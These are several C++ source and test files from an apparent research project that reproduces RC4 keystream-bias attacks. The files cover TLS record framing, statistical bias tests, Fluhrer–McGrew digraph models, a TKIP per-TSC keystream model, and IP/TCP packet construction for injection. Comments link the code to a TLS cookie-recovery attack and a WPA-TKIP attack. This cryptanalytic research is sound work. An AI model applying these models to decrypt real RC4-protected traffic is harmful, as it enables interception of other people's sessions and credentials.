// framing invariants for payload sizes spanning the empty record up to the
// attack's 492-byte requests.
#include <gtest/gtest.h>

#include "src/common/rng.h"
#include "src/tls/record.h"

namespace rc4b {
namespace {

struct Keys {
  Bytes mac_key;
  Bytes rc4_key;
};

Keys MakeKeys(uint64_t seed) {
  Xoshiro256 rng(seed);
  Keys keys;
  keys.mac_key.resize(HmacSha1::kDigestSize);
  keys.rc4_key.resize(16);
  rng.Fill(keys.mac_key);
  rng.Fill(keys.rc4_key);
  return keys;
}

class RecordSizeSweep : public ::testing::TestWithParam<size_t> {};

TEST_P(RecordSizeSweep, RoundTripAndFraming) {
  const size_t payload_size = GetParam();
  const Keys keys = MakeKeys(1000 + payload_size);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  TlsReadState reader(keys.mac_key, keys.rc4_key);

  Xoshiro256 rng(payload_size);
  Bytes payload(payload_size);
  rng.Fill(payload);

  const Bytes record = writer.Seal(payload);
  ASSERT_EQ(record.size(),
            kTlsRecordHeaderSize + payload_size + HmacSha1::kDigestSize);
  EXPECT_EQ(LoadBe16(record.data() + 3), payload_size + HmacSha1::kDigestSize);

  const auto opened = reader.Open(record);
  ASSERT_TRUE(opened.has_value());
  EXPECT_EQ(*opened, payload);
}

TEST_P(RecordSizeSweep, KeystreamOffsetAdvancesBySealedBytes) {
  // The RC4 stream must advance by exactly payload + MAC bytes per record:
  // the alignment arithmetic of the cookie attack depends on it.
  const size_t payload_size = GetParam();
  const Keys keys = MakeKeys(2000 + payload_size);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);

  const Bytes first(payload_size, 0xaa);
  const Bytes second(4, 0xbb);
  const Bytes record1 = writer.Seal(first);
  const Bytes record2 = writer.Seal(second);

  Rc4 reference(keys.rc4_key);
  reference.Skip(payload_size + HmacSha1::kDigestSize);
  const uint8_t expected_z = reference.Next();
  EXPECT_EQ(record2[kTlsRecordHeaderSize], 0xbb ^ expected_z);
  (void)record1;
}

INSTANTIATE_TEST_SUITE_P(PayloadSizes, RecordSizeSweep,
                         ::testing::Values(0, 1, 2, 19, 20, 21, 63, 64, 255, 256,
                                           492, 1024, 16000));

class SequenceSweep : public ::testing::TestWithParam<int> {};

TEST_P(SequenceSweep, ManyRecordsRoundTripInOrder) {
  const int record_count = GetParam();
  const Keys keys = MakeKeys(3000 + record_count);
  TlsWriteState writer(keys.mac_key, keys.rc4_key);
  TlsReadState reader(keys.mac_key, keys.rc4_key);
  Xoshiro256 rng(record_count);
  for (int i = 0; i < record_count; ++i) {
    Bytes payload(1 + rng.Below(100));
    rng.Fill(payload);
    const auto opened = reader.Open(writer.Seal(payload));
    ASSERT_TRUE(opened.has_value()) << "record " << i;
    ASSERT_EQ(*opened, payload) << "record " << i;
  }
}

INSTANTIATE_TEST_SUITE_P(Counts, SequenceSweep, ::testing::Values(2, 17, 300));

}  // namespace
}  // namespace rc4b
