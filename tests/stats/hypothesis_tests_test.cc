#include <cmath>
#include "src/stats/tests.h"

#include <vector>

#include <gtest/gtest.h>

#include "src/common/rng.h"

namespace rc4b {
namespace {

std::vector<uint64_t> UniformCounts(size_t cells, uint64_t per_cell_mean,
                                    Xoshiro256& rng) {
  std::vector<uint64_t> counts(cells);
  for (auto& c : counts) {
    const double draw =
        static_cast<double>(per_cell_mean) +
        std::sqrt(static_cast<double>(per_cell_mean)) * rng.Normal();
    c = draw < 0 ? 0 : static_cast<uint64_t>(draw);
  }
  return counts;
}

TEST(ChiSquaredTest, AcceptsUniformData) {
  Xoshiro256 rng(1);
  int rejections = 0;
  for (int trial = 0; trial < 50; ++trial) {
    const auto counts = UniformCounts(256, 1000, rng);
    if (ChiSquaredGoodnessOfFit(counts).p_value < 0.001) {
      ++rejections;
    }
  }
  EXPECT_LE(rejections, 2);  // ~0.05 expected at alpha=1e-3 over 50 trials
}

TEST(ChiSquaredTest, RejectsBiasedCell) {
  Xoshiro256 rng(2);
  auto counts = UniformCounts(256, 10000, rng);
  counts[7] += static_cast<uint64_t>(counts[7] * 0.25);  // 25% relative bias
  EXPECT_LT(ChiSquaredGoodnessOfFit(counts).p_value, 1e-6);
}

TEST(ChiSquaredTest, ExpectedProbabilitiesRespected) {
  // Counts drawn exactly proportional to a non-uniform expectation fit it.
  std::vector<double> expected = {0.5, 0.25, 0.125, 0.125};
  std::vector<uint64_t> counts = {5000, 2500, 1250, 1250};
  const auto result =
      ChiSquaredGoodnessOfFit(counts, expected);
  EXPECT_NEAR(result.statistic, 0.0, 1e-9);
  EXPECT_GT(result.p_value, 0.999);
}

TEST(ChiSquaredIndependenceTest, AcceptsIndependentTable) {
  Xoshiro256 rng(3);
  // Product-of-marginals table with Poisson noise.
  std::vector<uint64_t> table(16 * 16);
  for (size_t r = 0; r < 16; ++r) {
    for (size_t c = 0; c < 16; ++c) {
      const double mean = 400.0 * (1.0 + 0.05 * r) * (1.0 + 0.03 * c);
      table[r * 16 + c] =
          static_cast<uint64_t>(mean + std::sqrt(mean) * rng.Normal());
    }
  }
  EXPECT_GT(ChiSquaredIndependence(table, 16, 16).p_value, 1e-4);
}

TEST(ChiSquaredIndependenceTest, RejectsDependentTable) {
  Xoshiro256 rng(4);
  std::vector<uint64_t> table(16 * 16, 400);
  for (auto& v : table) {
    v = static_cast<uint64_t>(400 + 20.0 * rng.Normal());
  }
  // Couple the diagonal strongly.
  for (size_t i = 0; i < 16; ++i) {
    table[i * 16 + i] += 200;
  }
  EXPECT_LT(ChiSquaredIndependence(table, 16, 16).p_value, 1e-8);
}

TEST(MTest, MorePowerfulThanChiSquaredForSingleOutlier) {
  // One slightly biased cell among 65536: the Fluhrer–McGrew situation the
  // paper cites as motivation for the M-test (Sect. 3.1).
  Xoshiro256 rng(5);
  auto counts = UniformCounts(65536, 4000, rng);
  counts[123] += 1200;  // ~19-sigma outlier in one cell

  const auto chi = ChiSquaredGoodnessOfFit(counts);
  const auto m = FuchsKenettMTest(counts);
  EXPECT_LT(m.p_value, 1e-10);
  EXPECT_EQ(m.worst_cell, 123u);
  // The chi-squared test dilutes one outlier over 65535 df.
  EXPECT_GT(chi.p_value, m.p_value);
}

TEST(MTest, AcceptsUniform) {
  Xoshiro256 rng(6);
  const auto counts = UniformCounts(4096, 2500, rng);
  EXPECT_GT(FuchsKenettMTest(counts).p_value, 1e-4);
}

TEST(ProportionTest, ZStatisticSign) {
  const auto high = ProportionTest(600, 1000, 0.5);
  EXPECT_GT(high.statistic, 0.0);
  const auto low = ProportionTest(400, 1000, 0.5);
  EXPECT_LT(low.statistic, 0.0);
  EXPECT_NEAR(high.p_value, low.p_value, 1e-12);
}

TEST(ProportionTest, ExactNullIsInsignificant) {
  const auto result = ProportionTest(500, 1000, 0.5);
  EXPECT_NEAR(result.statistic, 0.0, 1e-12);
  EXPECT_DOUBLE_EQ(result.p_value, 1.0);
}

TEST(ProportionTest, DetectsMantinShamirScaleBias) {
  // Z2 = 0 occurs with probability 2/256 instead of 1/256; at 2^20 trials
  // this is a ~64-sigma signal.
  const uint64_t trials = 1 << 20;
  const uint64_t successes = trials * 2 / 256;
  EXPECT_LT(ProportionTest(successes, trials, 1.0 / 256).p_value, 1e-100);
}

TEST(HolmTest, AdjustedValuesMonotoneAndScaled) {
  const std::vector<double> p = {0.001, 0.01, 0.03, 0.5};
  const auto adj = HolmAdjust(p);
  // First (smallest) scaled by m=4, then 3, 2, 1 with running max.
  EXPECT_NEAR(adj[0], 0.004, 1e-12);
  EXPECT_NEAR(adj[1], 0.03, 1e-12);
  EXPECT_NEAR(adj[2], 0.06, 1e-12);
  EXPECT_NEAR(adj[3], 0.5, 1e-12);
}

TEST(HolmTest, CapsAtOne) {
  const std::vector<double> p = {0.9, 0.8, 0.7};
  for (double a : HolmAdjust(p)) {
    EXPECT_LE(a, 1.0);
  }
}

TEST(HolmTest, RejectIndices) {
  const std::vector<double> p = {1e-9, 0.2, 1e-6, 0.9};
  const auto rejected = HolmReject(p, 1e-4);
  ASSERT_EQ(rejected.size(), 2u);
  EXPECT_EQ(rejected[0], 0u);
  EXPECT_EQ(rejected[1], 2u);
}

TEST(HolmTest, ControlsFamilyWiseErrorUnderNull) {
  // With all nulls true, the chance of any rejection at alpha should be
  // <= alpha. Run many families and count false rejections.
  Xoshiro256 rng(8);
  int families_with_rejection = 0;
  for (int family = 0; family < 2000; ++family) {
    std::vector<double> p(20);
    for (auto& x : p) {
      x = rng.UnitDouble();  // null p-values are uniform
    }
    if (!HolmReject(p, 0.01).empty()) {
      ++families_with_rejection;
    }
  }
  // Expectation 20 of 2000; allow generous head room.
  EXPECT_LE(families_with_rejection, 40);
}

}  // namespace
}  // namespace rc4b
