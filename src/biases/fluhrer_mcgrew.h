// Analytic model of the (generalized) Fluhrer–McGrew digraph biases —
// Table 1 of the paper. Each digraph (v1, v2) is biased at PRGA counter i
// under side conditions on i and, in the initial keystream, on the byte
// position r of the first digraph byte.
//
// The long-term table (r large) is what the TLS attack's double-byte
// likelihoods consume; the r conditions encode the short-term exceptions the
// paper reports at positions 1, 2 and 5 (Sect. 3.3.1).
#ifndef SRC_BIASES_FLUHRER_MCGREW_H_
#define SRC_BIASES_FLUHRER_MCGREW_H_

#include <cstdint>
#include <utility>
#include <vector>

namespace rc4b {

struct FmDigraph {
  uint8_t v1 = 0;
  uint8_t v2 = 0;
  // Relative bias q: Pr[(Z_r, Z_{r+1}) = (v1, v2)] = 2^-16 (1 + q).
  double relative_bias = 0.0;
  const char* name = "";
};

// Biased digraphs at PRGA counter `i` for a digraph whose first byte is
// output at (1-based) position `r`. Pass a large r (e.g. 1 << 20) for the
// long-term regime.
std::vector<FmDigraph> FmDigraphsAt(uint8_t i, uint64_t r);

// Full 65536-entry probability table Pr[(Z_r, Z_{r+1}) = (v1, v2)] indexed by
// v1 * 256 + v2, normalized to sum to one.
std::vector<double> FmDigraphTable(uint8_t i, uint64_t r);

// Sparse form consumed by the optimized likelihood of formula (15): the
// probability u of an unbiased pair plus the list of (cell, probability)
// entries that deviate from u.
struct SparseDigraphModel {
  double unbiased_probability = 0.0;
  std::vector<std::pair<uint16_t, double>> biased_cells;
};
SparseDigraphModel FmSparseModel(uint8_t i, uint64_t r);

// PRGA counter when the byte at 1-based keystream position r is output.
inline uint8_t PrgaCounterAtPosition(uint64_t r) {
  return static_cast<uint8_t>(r & 0xff);
}

}  // namespace rc4b

#endif  // SRC_BIASES_FLUHRER_MCGREW_H_
