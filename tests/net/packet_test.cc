#include "src/net/packet.h"

#include <gtest/gtest.h>

namespace rc4b {
namespace {

Ipv4Header TestIp() {
  Ipv4Header ip;
  ip.source = 0xc0a80164;       // 192.168.1.100
  ip.destination = 0x5db8d822;  // example public address
  ip.ttl = 64;
  ip.identification = 0x1234;
  return ip;
}

TcpHeader TestTcp() {
  TcpHeader tcp;
  tcp.source_port = 52345;
  tcp.destination_port = 80;
  tcp.sequence = 0x01020304;
  tcp.acknowledgement = 0x0a0b0c0d;
  return tcp;
}

TEST(ChecksumTest, Rfc1071Example) {
  // Classic worked example: 0x0001f203f4f5f6f7 -> checksum 0x220d.
  const Bytes data = FromHex("0001f203f4f5f6f7");
  EXPECT_EQ(InternetChecksum(data), 0x220d);
}

TEST(ChecksumTest, OddLengthHandled) {
  const Bytes data = FromHex("0102030405");
  // Manually: 0x0102 + 0x0304 + 0x0500 = 0x0906 -> ~ = 0xf6f9.
  EXPECT_EQ(InternetChecksum(data), 0xf6f9);
}

TEST(LlcSnapTest, SerializesIpv4Encapsulation) {
  const Bytes llc = LlcSnapHeader{}.Serialize();
  EXPECT_EQ(ToHex(llc), "aaaa030000000800");
  EXPECT_EQ(llc.size(), LlcSnapHeader::kSize);
}

TEST(Ipv4Test, SerializedChecksumValid) {
  const Bytes header = TestIp().Serialize(100);
  ASSERT_EQ(header.size(), Ipv4Header::kSize);
  EXPECT_TRUE(VerifyIpv4Checksum(header));
  EXPECT_EQ(LoadBe16(header.data() + 2), Ipv4Header::kSize + 100);
}

TEST(Ipv4Test, ChecksumDetectsTtlChange) {
  Bytes header = TestIp().Serialize(0);
  EXPECT_TRUE(VerifyIpv4Checksum(header));
  header[8] ^= 0x01;  // flip a TTL bit
  EXPECT_FALSE(VerifyIpv4Checksum(header));
}

TEST(TcpTest, SerializedChecksumValid) {
  const Ipv4Header ip = TestIp();
  const Bytes payload = FromString("payload");
  const Bytes tcp = TestTcp().Serialize(ip, payload);
  ASSERT_EQ(tcp.size(), TcpHeader::kSize);

  Bytes segment = tcp;
  segment.insert(segment.end(), payload.begin(), payload.end());
  const Bytes ip_bytes = ip.Serialize(segment.size());
  EXPECT_TRUE(VerifyTcpChecksum(ip_bytes, segment));
}

TEST(TcpTest, ChecksumDetectsPortChange) {
  const Ipv4Header ip = TestIp();
  const Bytes payload = FromString("x");
  Bytes segment = TestTcp().Serialize(ip, payload);
  segment.insert(segment.end(), payload.begin(), payload.end());
  const Bytes ip_bytes = ip.Serialize(segment.size());
  ASSERT_TRUE(VerifyTcpChecksum(ip_bytes, segment));
  segment[0] ^= 0x40;  // source port bit
  EXPECT_FALSE(VerifyTcpChecksum(ip_bytes, segment));
}

TEST(TcpTest, ChecksumCoversPseudoHeaderAddresses) {
  const Ipv4Header ip = TestIp();
  const Bytes payload = FromString("data");
  Bytes segment = TestTcp().Serialize(ip, payload);
  segment.insert(segment.end(), payload.begin(), payload.end());
  Ipv4Header other_ip = ip;
  other_ip.source ^= 1;  // different internal IP -> checksum must fail
  EXPECT_FALSE(VerifyTcpChecksum(other_ip.Serialize(segment.size()), segment));
}

TEST(BuildTcpPacketTest, LayoutMatchesFig2) {
  // LLC/SNAP(8) + IP(20) + TCP(20) = 48 bytes of headers, then payload —
  // exactly the structure the TKIP attack's injected packet relies on.
  const Bytes payload = FromString("7bytes!");
  const Bytes packet = BuildTcpPacket(LlcSnapHeader{}, TestIp(), TestTcp(), payload);
  ASSERT_EQ(packet.size(), 48u + 7u);
  EXPECT_EQ(packet[0], 0xaa);                       // LLC
  EXPECT_EQ(packet[8] >> 4, 4);                     // IP version
  EXPECT_TRUE(VerifyIpv4Checksum(std::span<const uint8_t>(packet).subspan(8, 20)));
  EXPECT_EQ(Bytes(packet.end() - 7, packet.end()), payload);
}

TEST(BuildTcpPacketTest, CandidatePruningRecoversUnknownHeaderFields) {
  // Sect. 5.3: the internal IP / port / TTL can be recovered by enumerating
  // values and keeping those with valid checksums. Verify uniqueness here:
  // only the true TTL validates once everything else is fixed.
  const Ipv4Header ip = TestIp();
  const Bytes ip_bytes = ip.Serialize(20);
  int valid = 0;
  int valid_ttl = -1;
  for (int ttl = 1; ttl <= 255; ++ttl) {
    Bytes candidate = ip_bytes;
    candidate[8] = static_cast<uint8_t>(ttl);
    // Keep the checksum bytes as captured; only the true TTL matches them.
    if (VerifyIpv4Checksum(candidate)) {
      ++valid;
      valid_ttl = ttl;
    }
  }
  EXPECT_EQ(valid, 1);
  EXPECT_EQ(valid_ttl, ip.ttl);
}

}  // namespace
}  // namespace rc4b
