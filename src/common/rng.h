// Deterministic, fast pseudo-random generators used by simulations and tests.
//
// All experiment harnesses take explicit seeds so that every figure/table in
// EXPERIMENTS.md is reproducible bit-for-bit. RC4 *keys* for dataset
// generation are instead derived with AES-CTR (see src/rc4/keygen.h), matching
// the paper's setup; this xoshiro generator drives everything else
// (plaintext choices, simulation noise, synthetic count sampling).
#ifndef SRC_COMMON_RNG_H_
#define SRC_COMMON_RNG_H_

#include <cstdint>

#include "src/common/bytes.h"

namespace rc4b {

// xoshiro256** by Blackman & Vigna (public domain reference construction).
class Xoshiro256 {
 public:
  explicit Xoshiro256(uint64_t seed) {
    // SplitMix64 seeding, as recommended by the xoshiro authors.
    uint64_t z = seed;
    for (auto& word : state_) {
      z += 0x9e3779b97f4a7c15ULL;
      uint64_t x = z;
      x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
      x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
      word = x ^ (x >> 31);
    }
  }

  using result_type = uint64_t;
  static constexpr uint64_t min() { return 0; }
  static constexpr uint64_t max() { return ~0ULL; }

  uint64_t operator()() {
    const uint64_t result = Rotl64(state_[1] * 5, 7) * 9;
    const uint64_t t = state_[1] << 17;
    state_[2] ^= state_[0];
    state_[3] ^= state_[1];
    state_[1] ^= state_[2];
    state_[0] ^= state_[3];
    state_[2] ^= t;
    state_[3] = Rotl64(state_[3], 45);
    return result;
  }

  // Uniform value in [0, bound) without modulo bias (Lemire reduction).
  uint64_t Below(uint64_t bound) {
    unsigned __int128 m = static_cast<unsigned __int128>((*this)()) * bound;
    uint64_t lo = static_cast<uint64_t>(m);
    if (lo < bound) {
      uint64_t threshold = (0 - bound) % bound;
      while (lo < threshold) {
        m = static_cast<unsigned __int128>((*this)()) * bound;
        lo = static_cast<uint64_t>(m);
      }
    }
    return static_cast<uint64_t>(m >> 64);
  }

  uint8_t Byte() { return static_cast<uint8_t>((*this)() >> 56); }

  // Uniform double in [0, 1).
  double UnitDouble() { return static_cast<double>((*this)() >> 11) * 0x1.0p-53; }

  // Standard normal variate (polar Marsaglia; caches the paired value).
  double Normal();

  // Fills `out` with uniform random bytes.
  void Fill(std::span<uint8_t> out);

 private:
  uint64_t state_[4];
  bool has_cached_normal_ = false;
  double cached_normal_ = 0.0;
};

}  // namespace rc4b

#endif  // SRC_COMMON_RNG_H_
