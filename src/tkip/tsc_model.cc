#include "src/tkip/tsc_model.h"

#include <cassert>
#include <cmath>
#include <mutex>

#include "src/common/io.h"
#include "src/common/rng.h"
#include "src/common/thread_pool.h"
#include "src/core/likelihood.h"
#include "src/rc4/rc4.h"
#include "src/tkip/key_mixing.h"

namespace rc4b {

TkipTscModel::TkipTscModel(size_t first_position, size_t last_position)
    : first_position_(first_position), last_position_(last_position) {
  assert(first_position >= 1 && first_position <= last_position);
  log_p_.assign(256 * position_count() * 256, 0.0);
}

void TkipTscModel::Generate(uint64_t keys_per_class, uint64_t seed, unsigned workers) {
  keys_per_class_ = keys_per_class;
  const size_t positions = position_count();
  std::vector<uint64_t> counts(256 * positions * 256, 0);
  std::mutex merge_mutex;

  // Shard the 256 TSC1 classes across workers.
  ParallelChunks(256, workers, [&](unsigned w, uint64_t begin, uint64_t end) {
    (void)w;
    std::vector<uint64_t> local((end - begin) * positions * 256, 0);
    std::vector<uint8_t> keystream(last_position_);
    for (uint64_t tsc1 = begin; tsc1 < end; ++tsc1) {
      Xoshiro256 rng(seed * 1000003 + tsc1);
      std::array<uint8_t, 16> key;
      const uint8_t k0 = static_cast<uint8_t>(tsc1);
      const uint8_t k1 = static_cast<uint8_t>((tsc1 | 0x20) & 0x7f);
      for (uint64_t k = 0; k < keys_per_class; ++k) {
        key[0] = k0;
        key[1] = k1;
        // K2 = TSC0 drawn uniformly: the TSC1-conditional model marginalizes
        // over TSC0. Remaining bytes model KM's output as uniformly random.
        rng.Fill(std::span<uint8_t>(key.data() + 2, 14));
        Rc4 rc4(key);
        rc4.Keystream(keystream);
        uint64_t* base = local.data() + (tsc1 - begin) * positions * 256;
        for (size_t pos = first_position_; pos <= last_position_; ++pos) {
          base[(pos - first_position_) * 256 + keystream[pos - 1]] += 1;
        }
      }
    }
    std::lock_guard<std::mutex> lock(merge_mutex);
    std::copy(local.begin(), local.end(),
              counts.begin() + begin * positions * 256);
  });

  const double denom = static_cast<double>(keys_per_class) + 256.0;
  for (size_t i = 0; i < log_p_.size(); ++i) {
    log_p_[i] = std::log((static_cast<double>(counts[i]) + 1.0) / denom);
  }
}

double TkipTscModel::Probability(uint8_t tsc1, size_t pos, uint8_t value) const {
  return std::exp(LogProb(tsc1, pos, value));
}

void TkipTscModel::ShrinkTowardUniform(double factor) {
  constexpr double kUniform = 1.0 / 256.0;
  for (double& lp : log_p_) {
    const double p = kUniform + factor * (std::exp(lp) - kUniform);
    lp = SafeLog(p);
  }
}

double TkipTscModel::RmsRelativeDeviation() const {
  double sum = 0.0;
  for (double lp : log_p_) {
    const double q = std::exp(lp) * 256.0 - 1.0;
    sum += q * q;
  }
  return std::sqrt(sum / static_cast<double>(log_p_.size()));
}

namespace {
constexpr uint64_t kModelMagic = 0x52433454534331ULL;  // "RC4TSC1"
}  // namespace

IoStatus TkipTscModel::Save(const std::string& path) const {
  BinaryWriter writer(path);
  writer.WriteU64(kModelMagic);
  writer.WriteU64(first_position_);
  writer.WriteU64(last_position_);
  writer.WriteU64(keys_per_class_);
  writer.WriteDoubles(log_p_);
  return writer.Commit();
}

IoStatus TkipTscModel::Load(const std::string& path) {
  BinaryReader reader(path);
  const uint64_t magic = reader.ReadU64();
  if (reader.ok() && magic != kModelMagic) {
    return IoStatus::Fail(path + ": not a TkipTscModel file (bad magic)");
  }
  const uint64_t first = reader.ReadU64();
  const uint64_t last = reader.ReadU64();
  const uint64_t keys = reader.ReadU64();
  if (!reader.ok()) {
    return reader.status();
  }
  if (first != first_position_ || last != last_position_) {
    return IoStatus::Fail(path + ": position range [" + std::to_string(first) +
                          ", " + std::to_string(last) +
                          "] does not match this model's [" +
                          std::to_string(first_position_) + ", " +
                          std::to_string(last_position_) + "]");
  }
  std::vector<double> loaded(log_p_.size());
  if (!reader.ReadDoubles(loaded)) {
    return reader.status();
  }
  log_p_ = std::move(loaded);
  keys_per_class_ = keys;
  return IoStatus::Ok();
}

void TkipTscModel::SetRow(uint8_t tsc1, size_t pos,
                          std::span<const double> probabilities) {
  assert(probabilities.size() == 256);
  assert(pos >= first_position_ && pos <= last_position_);
  double* row = log_p_.data() + (static_cast<size_t>(tsc1) * position_count() +
                                 (pos - first_position_)) *
                                    256;
  // SafeLog keeps zero-probability cells finite — a -inf here would turn a
  // zero count into NaN in the likelihood layer (src/core/likelihood.h).
  for (size_t v = 0; v < 256; ++v) {
    row[v] = SafeLog(probabilities[v]);
  }
}

}  // namespace rc4b
