#include "src/biases/bias_scan.h"

#include <algorithm>
#include <cmath>

#include "src/engine/accumulators.h"
#include "src/stats/tests.h"

namespace rc4b {

std::vector<SingleByteScanResult> ScanSingleBytes(const SingleByteGrid& grid,
                                                  double alpha) {
  std::vector<SingleByteScanResult> results(grid.positions());
  std::vector<double> p_values(grid.positions());
  for (size_t pos = 0; pos < grid.positions(); ++pos) {
    const TestResult test = ChiSquaredGoodnessOfFit(grid.Row(pos));
    results[pos].position = pos + 1;
    results[pos].statistic = test.statistic;
    results[pos].p_value = test.p_value;
    p_values[pos] = test.p_value;
  }
  const auto adjusted = HolmAdjust(p_values);
  for (size_t pos = 0; pos < grid.positions(); ++pos) {
    results[pos].p_adjusted = adjusted[pos];
    results[pos].biased = adjusted[pos] <= alpha;
  }
  return results;
}

namespace {

// Expected cell probabilities under independence of the two bytes, from the
// row's empirical marginals.
std::vector<double> IndependenceExpectation(const DigraphGrid& grid, size_t row) {
  std::vector<double> marginal1(256), marginal2(256);
  for (int v = 0; v < 256; ++v) {
    marginal1[v] = grid.MarginalFirst(row, static_cast<uint8_t>(v));
    marginal2[v] = grid.MarginalSecond(row, static_cast<uint8_t>(v));
  }
  std::vector<double> expected(65536);
  for (size_t x = 0; x < 256; ++x) {
    for (size_t y = 0; y < 256; ++y) {
      expected[x * 256 + y] = marginal1[x] * marginal2[y];
    }
  }
  return expected;
}

}  // namespace

std::vector<PairDependence> ScanPairDependence(const DigraphGrid& grid, double alpha) {
  std::vector<PairDependence> results(grid.positions());
  std::vector<double> p_values(grid.positions());
  for (size_t row = 0; row < grid.positions(); ++row) {
    const auto expected = IndependenceExpectation(grid, row);
    const MTestResult test = FuchsKenettMTest(grid.Row(row), expected);
    results[row].row = row;
    results[row].m_statistic = test.statistic;
    results[row].p_value = test.p_value;
    p_values[row] = test.p_value;
  }
  const auto adjusted = HolmAdjust(p_values);
  for (size_t row = 0; row < grid.positions(); ++row) {
    results[row].p_adjusted = adjusted[row];
    results[row].dependent = adjusted[row] <= alpha;
  }
  return results;
}

std::vector<BiasedCell> FindBiasedCells(const DigraphGrid& grid, size_t row,
                                        double alpha) {
  const auto expected = IndependenceExpectation(grid, row);
  const auto counts = grid.Row(row);
  const uint64_t n = grid.keys();

  std::vector<double> p_values(65536, 1.0);
  for (size_t cell = 0; cell < 65536; ++cell) {
    if (expected[cell] > 0.0 && expected[cell] < 1.0) {
      p_values[cell] = ProportionTest(counts[cell], n, expected[cell]).p_value;
    }
  }
  const auto adjusted = HolmAdjust(p_values);

  std::vector<BiasedCell> biased;
  for (size_t cell = 0; cell < 65536; ++cell) {
    if (adjusted[cell] > alpha) {
      continue;
    }
    BiasedCell b;
    b.v1 = static_cast<uint8_t>(cell / 256);
    b.v2 = static_cast<uint8_t>(cell % 256);
    b.pair_probability = static_cast<double>(counts[cell]) / static_cast<double>(n);
    b.expected_probability = expected[cell];
    b.relative_bias = b.pair_probability / b.expected_probability - 1.0;
    b.p_value = adjusted[cell];
    biased.push_back(b);
  }
  std::sort(biased.begin(), biased.end(), [](const BiasedCell& a, const BiasedCell& b) {
    return std::fabs(a.relative_bias) > std::fabs(b.relative_bias);
  });
  return biased;
}

double RelativeBias(const DigraphGrid& grid, size_t row, uint8_t v1, uint8_t v2) {
  const double expected = grid.MarginalFirst(row, v1) * grid.MarginalSecond(row, v2);
  const double actual = grid.Probability(row, v1, v2);
  return actual / expected - 1.0;
}

std::vector<SingleByteScanResult> ScanSingleBytesWithEngine(
    size_t positions, const EngineOptions& options, double alpha) {
  SingleByteAccumulator accumulator(positions);
  RunKeystreamEngine(options, accumulator);
  return ScanSingleBytes(accumulator.grid(), alpha);
}

std::vector<PairDependence> ScanConsecutiveDigraphsWithEngine(
    size_t positions, const EngineOptions& options, double alpha) {
  ConsecutiveAccumulator accumulator(positions);
  RunKeystreamEngine(options, accumulator);
  return ScanPairDependence(accumulator.grid(), alpha);
}

}  // namespace rc4b
