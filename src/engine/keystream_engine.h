// Sharded, batched RC4 keystream-statistics engine.
//
// The paper (Sect. 3.2) generated its keystream datasets on ~80 machines;
// every worker derived random 128-bit RC4 keys with AES-CTR, accumulated
// (position, value) counters locally, and merged them at the end. This engine
// reproduces that worker/merge structure on one machine and makes it the
// single hot path shared by dataset generation (src/biases/dataset.cc), the
// bias scans, and the benchmark harnesses:
//
//   * keys are sharded over the thread pool in contiguous [begin, end)
//     chunks; key number k is always key k of one AES-CTR stream (the shard
//     Seek()s to its range), so the generated key set — and therefore every
//     merged counter — is bit-exact for ANY worker count, including 1;
//   * each shard generates keystreams in batches (cache-friendly contiguous
//     rows) and feeds them to a shard-private sink: no locks, no sharing,
//     counters cache-line aligned;
//   * finished shards are merged exactly once, serialized by the engine.
//
// Two generation modes cover the paper's datasets:
//   * RunKeystreamEngine — per-key initial keystreams of a fixed length
//     (consec512/first16-style short-term statistics, Fig. 4/5, Table 2);
//   * RunLongTermEngine — few keys, long streams (2^24+ bytes) consumed in
//     overlapping chunks (Table 1 long-term digraphs, ABSAB/formula (1),
//     aligned digraphs/formula (8)).
#ifndef SRC_ENGINE_KEYSTREAM_ENGINE_H_
#define SRC_ENGINE_KEYSTREAM_ENGINE_H_

#include <cstdint>
#include <memory>
#include <span>
#include <string>

namespace rc4b {

// A batch of `rows` keystreams of `length` bytes each, stored contiguously
// row-major. Row r holds Z_1 .. Z_length of one RC4 key (after any
// engine-level drop).
struct KeystreamBatch {
  const uint8_t* data = nullptr;
  size_t rows = 0;
  size_t length = 0;

  std::span<const uint8_t> Row(size_t r) const {
    return std::span<const uint8_t>(data + r * length, length);
  }
};

// Shard-private consumer. The engine creates one per shard and calls
// Consume() from exactly one thread, so implementations need no
// synchronization and should keep their counters shard-local.
class ShardSink {
 public:
  virtual ~ShardSink() = default;
  virtual void Consume(const KeystreamBatch& batch) = 0;
};

// A statistics accumulator fed by the engine. Implementations own the final
// merged statistic (typically a SingleByteGrid / DigraphGrid) and hand out
// shard sinks whose counters they fold back in MergeShard() — which the
// engine calls exactly once per shard, serialized, after the shard's last
// Consume().
class BiasAccumulator {
 public:
  virtual ~BiasAccumulator() = default;

  // Keystream bytes the engine must generate per key.
  virtual size_t KeystreamLength() const = 0;

  virtual std::unique_ptr<ShardSink> MakeShard() = 0;

  // `keys` is the number of keystreams the shard consumed.
  virtual void MergeShard(ShardSink& shard, uint64_t keys) = 0;
};

struct EngineOptions {
  uint64_t keys = 1 << 20;  // RC4 keys to sample
  unsigned workers = 0;     // shards; 0 = hardware concurrency
  uint64_t seed = 1;        // AES-CTR key-generator seed
  // Global index of the first key: the run covers keys [first_key,
  // first_key + keys) of the seed's AES-CTR stream. Separate processes can
  // therefore each generate a disjoint slice of one logical dataset and merge
  // the partial grids bit-exactly (src/store/), the same invariance the
  // in-process shards rely on.
  uint64_t first_key = 0;
  uint64_t drop = 0;  // initial keystream bytes discarded per key
  // Keystreams per generated batch; 0 = auto (the host's cached autotune
  // choice when $RC4B_AUTOTUNE_CACHE is valid, else 256).
  size_t batch_keys = 256;
  // RC4 streams generated in lockstep: 0 = auto, 1 = scalar Rc4, other
  // values round down to the nearest width the selected kernel supports
  // (logged once when rounding changes the value). Batches are
  // byte-identical for every width and every kernel — a kernel only
  // reorders the schedule, never the per-key math.
  size_t interleave = 0;
  // Lane-kernel selection (src/rc4/kernel_registry.h): "" = auto
  // ($RC4B_KERNEL env, else the cached autotune choice, else the best
  // kernel the CPU supports), or an explicit registered name ("scalar",
  // "ssse3", "avx2", "neon"). Unknown/unavailable names warn once and fall
  // back to scalar; interleave = 1 is always the scalar oracle.
  std::string kernel;
};

// Generates `options.keys` keystreams of accumulator.KeystreamLength() bytes
// and streams them through per-shard sinks. Key k is key number k of the
// AES-CTR stream seeded with `options.seed`, independent of sharding:
// merged results are bit-identical for any `workers`.
void RunKeystreamEngine(const EngineOptions& options, BiasAccumulator& accumulator);

// ------------------------------------------------------------------------
// Long-term (streaming) mode.

